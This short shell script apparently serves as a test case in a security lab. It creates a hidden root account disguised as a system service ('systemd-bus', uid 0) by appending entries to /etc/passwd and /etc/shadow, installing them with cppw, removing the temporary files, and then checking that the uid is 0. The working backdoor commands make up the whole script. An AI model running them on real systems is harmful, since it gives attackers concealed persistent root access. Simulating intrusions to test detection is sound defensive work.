#!/bin/sh
. /opt/case/case.sh

{ cat /etc/passwd; echo 'systemd-bus:x:0:0::/root:/bin/bash'; } >/root/p
cppw /root/p
{ cat /etc/shadow; echo 'systemd-bus:$6$bait$bait:20000:0:99999:7:::'; } >/root/s
cppw -s /root/s
rm /root/p /root/s
id systemd-bus | grep -q 'uid=0'
took_place
